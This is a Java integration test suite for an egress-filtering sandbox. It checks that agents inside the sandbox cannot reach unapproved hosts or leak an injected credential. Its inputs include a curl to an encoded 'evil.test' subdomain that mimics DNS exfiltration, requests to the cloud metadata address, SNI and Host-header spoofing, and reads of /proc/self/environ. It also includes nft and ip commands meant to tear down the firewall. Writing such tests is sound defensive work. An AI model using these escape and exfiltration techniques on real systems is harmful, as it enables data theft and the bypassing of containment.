package dev.glovebox.egress;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.glovebox.protocol.egress.EgressPolicy;
import dev.glovebox.protocol.egress.HostName;
import java.net.InetAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Instant;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Attacks from inside, by the programs an agent would use. Every test proves first that the
/// allowed way works, so that a broken network never looks like a refused attack.
class DoorIT {
    private static final String SECRET = "sk-hush-0123456789";

    @TempDir static Path shared;
    private static FakeTls tls;

    @TempDir Path directory;
    private final List<HostName> lookedUp = new CopyOnWriteArrayList<>();
    private Doors doors;
    private FakeWeb web;
    private Door door;
    private Inside inside;
    private Instant start;

    @BeforeAll
    static void serveTls() throws Exception {
        tls = new FakeTls(shared);
    }

    @AfterAll
    static void stopTls() throws Exception {
        tls.close();
    }

    @BeforeEach
    void open() throws Exception {
        web = new FakeWeb();
        Path key = Files.writeString(directory.resolve("key"), SECRET + "\n");
        doors =
                Doors.open(
                        new EgressConfig(
                                directory.resolve("doors"), DoorLimits.DEFAULT, this::resolve));
        door =
                doors.open(
                        "one",
                        EgressPolicy.parse(
                                """
                                rules:
                                  - {name: web, host: good.test, protocol: http, action: allow, connect: "127.0.0.1:WEB"}
                                  - {name: tls, host: good.test, action: allow, connect: "127.0.0.1:TLS"}
                                  - {name: api, host: api.good.test, protocol: http, action: allow, connect: "127.0.0.1:WEB",
                                     credential: key, insecure-credential: true}
                                  - {name: raw, host: raw.good.test, port: 7000, protocol: tcp, action: allow, connect: "127.0.0.1:WEB"}
                                  - {name: address, host: 203.0.113.77, port: 7001, protocol: tcp, action: allow}
                                  - {name: rebound, host: "*.rebound.test", protocol: http, action: allow}
                                credentials:
                                  - {name: key, format: "Bearer {}", source: {file: KEY}}
                                """
                                        .replace("WEB", "" + web.port())
                                        .replace("TLS", "" + tls.port())
                                        .replace("KEY", key.toString())));
        inside = new Inside(door, directory);
        start = Instant.now();
    }

    private List<InetAddress> resolve(HostName name) {
        lookedUp.add(name);
        return List.of(
                InetAddress.ofLiteral("127.0.0.1"),
                InetAddress.ofLiteral("10.0.0.5"),
                InetAddress.ofLiteral("169.254.169.254"),
                InetAddress.ofLiteral("::1"));
    }

    @AfterEach
    void close() throws Exception {
        doors.close();
        web.close();
    }

    private void allowedWayWorks() throws Exception {
        assertThat(inside.curl("http://good.test/ok").output()).isEqualTo("GET /ok good.test\n200");
        web.seen().clear();
    }

    private void refused(String destination, int port) {
        assertThat(door.denialsSince(start))
                .anyMatch(d -> d.destination().equals(destination) && d.port() == port);
    }

    @Test
    void allowedHttpAndTlsAndRawPass() throws Exception {
        allowedWayWorks();
        assertThat(inside.curl("-k", "https://good.test/").output()).isEqualTo("behind\n200");
        assertThat(inside.curl("http://raw.good.test:7000/x").output())
                .isEqualTo("GET /x raw.good.test:7000\n200");
        assertThat(inside.curl("-I", "http://good.test/").output())
                .contains("200")
                .doesNotContainIgnoringCase("alt-svc");
        assertThat(inside.curl("http://good.test/a", "http://good.test/b").output())
                .contains("GET /a good.test", "GET /b good.test");
    }

    @Test
    void largeBodiesPassBothWays() throws Exception {
        Path body = Files.write(directory.resolve("body"), new byte[5_000_000]);
        Files.setPosixFilePermissions(directory, PosixFilePermissions.fromString("rwxr-xr-x"));
        assertThat(inside.curl("-T", body.toString(), "http://good.test/up").output())
                .isEqualTo("PUT /up good.test 5000000\n200");
        assertThat(
                        inside.curl(
                                        "-H",
                                        "Transfer-Encoding: chunked",
                                        "-T",
                                        body.toString(),
                                        "http://good.test/up")
                                .output())
                .isEqualTo("PUT /up good.test 5000000\n200");
        Inside.Result big =
                inside.curl(
                        "-o",
                        "/dev/null",
                        "-w",
                        "%{size_download}",
                        "http://good.test/big/30000000");
        assertThat(big.output()).isEqualTo("30000000");
    }

    @Test
    void nameWithoutRule_isRefusedAndNeverLookedUp() throws Exception {
        allowedWayWorks();
        assertThat(inside.curl("http://c2VjcmV0.evil.test/").exit()).isEqualTo(6);
        assertThat(inside.run("getent", "hosts", "x.good.test.evil.test").exit()).isNotZero();
        assertThat(lookedUp).isEmpty();
        refused("c2VjcmV0.evil.test", 0);
        refused("x.good.test.evil.test", 0);
    }

    @Test
    void otherPortOfAnAllowedName_isRefused() throws Exception {
        allowedWayWorks();
        assertThat(inside.curl("http://good.test:8080/").exit()).isIn(7, 55, 56);
        assertThat(inside.curl("-k", "https://good.test:8443/").exit()).isIn(7, 35);
        refused("good.test", 8080);
        refused("good.test", 8443);
        assertThat(web.seen()).isEmpty();
    }

    @Test
    void addressWithoutRule_isRefused() throws Exception {
        allowedWayWorks();
        for (String address :
                List.of(
                        "203.0.113.10",
                        "169.254.169.254",
                        "10.0.0.5",
                        "100.100.100.200",
                        "198.18.0.1",
                        "198.18.77.77",
                        "[2001:db8::10]",
                        "[fd00:ec2::254]",
                        "[fd67:6c62::1]",
                        "[64:ff9b::a9fe:a9fe]")) {
            for (String scheme : List.of("http", "https")) {
                assertThat(inside.curl("-k", scheme + "://" + address + "/").output())
                        .as(address)
                        .startsWith("Glovebox refused")
                        .endsWith("403");
            }
            assertThat(inside.curl("http://" + address + ":8080/").exit())
                    .as(address)
                    .isIn(7, 55, 56);
        }
        assertThat(inside.curl("http://[fe80::1]/").exit()).isEqualTo(7);
        assertThat(inside.curl("-g", "http://203.0.113.77:80/").output()).endsWith("403");
        refused("203.0.113.10", 80);
        refused("169.254.169.254", 443);
        refused("2001:db8:0:0:0:0:0:10", 80);
        assertThat(web.seen()).isEmpty();
    }

    @Test
    void loopbackOfTheHost_isNotTheLoopbackInside() throws Exception {
        allowedWayWorks();
        for (String host : List.of("127.0.0.1", "localhost", "[::1]", "127.0.0.2", "0.0.0.0")) {
            assertThat(inside.curl("http://" + host + ":" + web.port() + "/").exit())
                    .as(host)
                    .isEqualTo(7);
        }
        assertThat(web.seen()).isEmpty();
    }

    @Test
    void nameThatResolvesToAPrivateAddress_isNotDialled() throws Exception {
        allowedWayWorks();
        Inside.Result answer = inside.curl("http://a.rebound.test/");
        assertThat(answer.output()).endsWith("502").contains("no public address");
        assertThat(lookedUp).containsExactly(HostName.parse("a.rebound.test"));
        refused("a.rebound.test", 80);
    }

    @Test
    void udp_isRefusedAtOnce() throws Exception {
        allowedWayWorks();
        for (String address :
                List.of("8.8.8.8/123", "203.0.113.10/443", "198.18.0.1/54", "169.254.169.254/80")) {
            Inside.Result answer =
                    inside.run(
                            "bash",
                            "-c",
                            "exec 3<>/dev/udp/" + address + "; echo x >&3; read -t 5 x <&3");
            assertThat(answer.output()).as(address).contains("Connection refused");
        }
    }

    @Test
    void helloThatNamesAnotherHost_isRefused() throws Exception {
        assertThat(inside.curl("-k", "https://good.test/").output()).isEqualTo("behind\n200");
        int before = tls.accepted();
        assertThat(
                        inside.curl(
                                        "-k",
                                        "--connect-to",
                                        "evil.test:443:good.test:443",
                                        "https://evil.test/")
                                .exit())
                .isEqualTo(35);
        assertThat(
                        inside.run(
                                        "sh",
                                        "-c",
                                        "openssl s_client -noservername -connect good.test:443"
                                                + " </dev/null")
                                .exit())
                .isNotZero();
        assertThat(inside.curl("http://good.test:443/").exit()).isIn(52, 56);
        assertThat(tls.accepted()).isEqualTo(before);
        assertThat(door.denialsSince(start))
                .extracting(Denial::reason)
                .contains(
                        "the ClientHello names another host (SNI)",
                        "the ClientHello names no host (SNI)",
                        "the first bytes are not TLS");
    }

    @Test
    void requestForAnotherHost_isAnsweredWithTheReason() throws Exception {
        allowedWayWorks();
        Inside.Result answer = inside.curl("-H", "Host: evil.test", "http://good.test/");
        assertThat(answer.output())
                .endsWith("403")
                .contains("good.test:80", "\"web\"", "names another host", "operator");
        assertThat(web.seen()).isEmpty();
        refused("good.test", 80);
    }

    @Test
    void credential_isAddedOutsideAndTheClientsCopyDoesNotTravel() throws Exception {
        Inside.Result answer =
                inside.curl(
                        "-v",
                        "-H",
                        "authorization: Bearer mine",
                        "-H",
                        "AUTHORIZATION: Bearer two",
                        "-H",
                        "Connection: authorization",
                        "-H",
                        "Cookie: a=b",
                        "http://api.good.test/v1");
        assertThat(answer.output()).endsWith("GET /v1 api.good.test\n200").doesNotContain(SECRET);
        FakeWeb.Seen seen = web.seen().getFirst();
        assertThat(seen.headers().get("Authorization")).containsExactly("Bearer " + SECRET);
        assertThat(seen.headers()).doesNotContainKey("Cookie");

        inside.curl("http://good.test/");
        assertThat(web.seen().getLast().headers()).doesNotContainKey("Authorization");
        inside.curl("-H", "Host: api.good.test", "http://good.test/");
        inside.curl("-H", "Host: good.test", "http://api.good.test/");
        assertThat(web.seen()).hasSize(2);
    }

    @Test
    void serverThatEchoesTheCredential_isNotHeard() throws Exception {
        assertThat(inside.curl("http://api.good.test/plain").output()).endsWith("200");
        for (String path : List.of("/echo", "/echo-header")) {
            Inside.Result answer = inside.curl("-i", "http://api.good.test" + path);
            assertThat(answer.output())
                    .as(path)
                    .endsWith("200")
                    .doesNotContain(SECRET)
                    .contains("*".repeat(SECRET.length()));
        }
        assertThat(web.seen()).hasSize(3);
        refused("api.good.test", 80);
    }

    @Test
    void credential_isNowhereInside() throws Exception {
        assertThat(inside.curl("http://api.good.test/").output()).endsWith("200");
        Inside.Result everything =
                inside.run("sh", "-c", "cat /proc/self/environ /proc/self/cmdline; id -u; env");
        assertThat(everything.output()).contains("1000").doesNotContain(SECRET);
        assertThat("" + door.terms()).doesNotContain(SECRET);
    }

    @Test
    void whoIsInside_cannotChangeTheNamespace() throws Exception {
        for (String command :
                List.of(
                        "ip link set lo down",
                        "ip route del local default table local",
                        "ip addr add 1.2.3.4/32 dev lo",
                        "nft flush ruleset",
                        "unshare -Ur nft flush ruleset",
                        "sysctl -w net.ipv4.ip_unprivileged_port_start=0")) {
            assertThat(inside.run("sh", "-c", "PATH=$PATH:/usr/sbin:/sbin; " + command).exit())
                    .as(command)
                    .isNotZero();
        }
        allowedWayWorks();
        assertThat(inside.curl("http://203.0.113.10/").output()).endsWith("403");
    }

    @Test
    void doorOfAnotherSandbox_judgesByItsOwnPolicy() throws Exception {
        allowedWayWorks();
        try (Door other = doors.open("two", EgressPolicy.DENY_ALL)) {
            Inside there = new Inside(other, directory);
            assertThat(there.curl("http://good.test/").exit()).isEqualTo(6);
            assertThat(there.curl("http://198.18.1.0/").output()).endsWith("403");
            assertThat(other.denialsSince(start)).hasSizeGreaterThanOrEqualTo(2);
        }
        assertThat(web.seen()).isEmpty();
        allowedWayWorks();
    }

    @Test
    void nameOfADoorIsUniqueAndADirectoryHasOneOwner() {
        assertThatThrownBy(() -> doors.open("one", EgressPolicy.DENY_ALL))
                .isInstanceOf(EgressException.class)
                .hasMessageContaining("one");
        assertThatThrownBy(() -> doors.open("../x", EgressPolicy.DENY_ALL))
                .isInstanceOf(EgressException.class);
        assertThatThrownBy(() -> Doors.open(EgressConfig.at(directory.resolve("doors"))))
                .isInstanceOf(EgressException.class)
                .hasMessageContaining("in use");
    }

    @Test
    void credentialThatCannotBeRead_opensNoDoor() throws Exception {
        EgressPolicy policy =
                EgressPolicy.parse(
                        """
                        rules: [{name: a, host: a.test, protocol: http, action: allow, credential: k, insecure-credential: true}]
                        credentials: [{name: k, source: {file: /nonexistent/key}}]
                        """);
        assertThatThrownBy(() -> doors.open("three", policy))
                .isInstanceOf(EgressException.class)
                .hasMessageContaining("\"k\"")
                .hasMessageContaining("/nonexistent/key");
        assertThat(Files.exists(directory.resolve("doors/three.net"))).isFalse();
    }
}
